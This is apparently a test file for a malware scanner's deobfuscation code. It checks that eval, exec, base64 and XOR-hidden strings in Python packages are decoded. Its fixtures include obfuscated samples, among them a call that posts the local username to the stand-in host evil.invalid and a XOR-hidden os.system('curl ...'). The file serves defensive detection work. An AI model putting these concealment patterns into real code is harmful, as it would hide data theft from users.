"""Texts that a program runs or evaluates: read once, where they stand, and folded as layers of their own."""

import gc

from scanner.decode import PeelBudget, peel
from scanner.decode.fold import fold
from scanner.member import Layer, Member

URL = "https://evil.invalid/x"


def layers_of(source: str) -> dict[tuple[str, ...], bytes]:
    found = peel(Member(name="pkg/mod.py", data=source.encode()), PeelBudget())
    return {item.path: item.data for item in found if isinstance(item, Layer)}


def test_a_text_that_is_evaluated_is_folded_with_the_names_around_it() -> None:
    call = "__import__('requests').post(scheme + 'evil.invalid/x', data={'name': __import__('getpass').getuser()})"
    found = layers_of(
        f"import base64\nscheme = 'https://'\neval({call!r})\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\n"
    )
    assert found["eval",] == call.encode()
    assert URL in found["eval", "folded"].decode()


def test_a_text_that_gives_a_text_leaves_no_layer_of_that_text_alone() -> None:
    found = layers_of(
        f"text = eval({'+'.join(repr(char) for char in URL * 3)!r})\nexec('import requests; requests.get(text)')\n"
    )
    assert ("eval", "folded") not in found


def test_what_is_evaluated_inside_an_evaluated_text_has_both_steps_in_its_path() -> None:
    inner = "print('a text that is long enough to be a layer of its own, since somebody evaluates it')"
    found = layers_of(
        f"import base64\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\neval({f'eval({inner!r})'!r})\n"
    )
    assert found["eval", "eval"] == inner.encode()


def test_a_number_too_long_to_write_out_is_left_as_it_is() -> None:
    found = fold(b"import os\nx = eval('0005**9'[::-1])\ngetattr(os, 'sys' + 'tem')('id')\n", PeelBudget())
    assert found.emissions[-1].data == b"import os\nx = eval('9**5000')\nos.system('id')\n"


def test_only_a_function_with_a_yield_of_its_own_is_a_generator() -> None:
    found = fold(
        b"import requests\n"
        b"def parts(): yield 'https://'\n"
        b"def part(): return 'https://'\n"
        b"requests.get(part() + 'evil.invalid/x')\n"
        b"requests.post(parts() + 'evil.invalid/x')\n",
        PeelBudget(),
    )
    assert f"requests.get('{URL}')" in found.emissions[-1].data.decode()
    assert "requests.post(parts() + 'evil.invalid/x')" in found.emissions[-1].data.decode()


def test_a_program_leaves_nothing_that_holds_itself() -> None:
    program = """
class Key:
    table = [3, 5]
    def at(self, number):
        def inner():
            return self.table[number % 2]
        return inner()
keys = Key()
text = ""
for number in range(400):
    text += chr(97 ^ keys.at(number))
exec(text)
"""
    fold(program.encode(), PeelBudget())
    gc.collect()
    fold(program.encode(), PeelBudget())
    assert gc.collect() < 10


def hidden_in_a_body(head: str, key: list[int], call: str) -> str:
    text = f"import os\nos.system('curl {URL}')\n".encode()
    return head.replace(
        "RUN", f"exec(bytes(code ^ {call} for code in {[a ^ b for a, b in zip(text, key, strict=False)]}))"
    )


def test_a_function_within_a_body_that_nobody_calls_counts_from_call_to_call() -> None:
    key = [5]
    while len(key) < 80:
        key.append((key[-1] * 3 + 1) % 256)
    head = (
        "class Tide:\n    def run(self):\n        key = [5]\n        def turned():\n            value = key[0]\n"
        "            key[0] = (value * 3 + 1) % 256\n            return value\n        RUN\n"
    )
    assert URL in layers_of(hidden_in_a_body(head, key, "turned()"))["xor",].decode()


def test_a_body_that_is_busy_with_nothing_keeps_no_other_from_being_read() -> None:
    head = (
        "def first(values):\n    total = 0\n    for row in range(900):\n        for column in range(900):\n"
        "            total = abs(total - row * column) + len(str(total))\n            values[total] = row\n"
        "    return total\n\ndef second():\n    RUN\n"
    )
    found = [*peel(Member(name="pkg/mod.py", data=hidden_in_a_body(head, [7] * 80, "7").encode()), PeelBudget())]
    assert all(isinstance(item, Layer) for item in found)
    assert any(isinstance(item, Layer) and item.path and URL.encode() in item.data for item in found)


def test_what_is_run_by_importing_is_told_from_what_a_body_would_run() -> None:
    call = "exec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))"
    for source, is_run in (
        (call, True),
        (f"def run():\n    {call}\nrun()", True),
        (f"def run():\n    {call}", False),
        (f"def run():\n    exec({call!r})", False),
        (f"text = base64.b64decode('{'cHJpbnQoMSkgIyBhbmQgb24g' * 8}')", False),
    ):
        found = peel(Member(name="pkg/mod.py", data=f"import base64\n{source}\n".encode()), PeelBudget())
        told = [item.is_run for item in found if isinstance(item, Layer) and item.path[-1:] == ("base64",)]
        assert told == [is_run], source
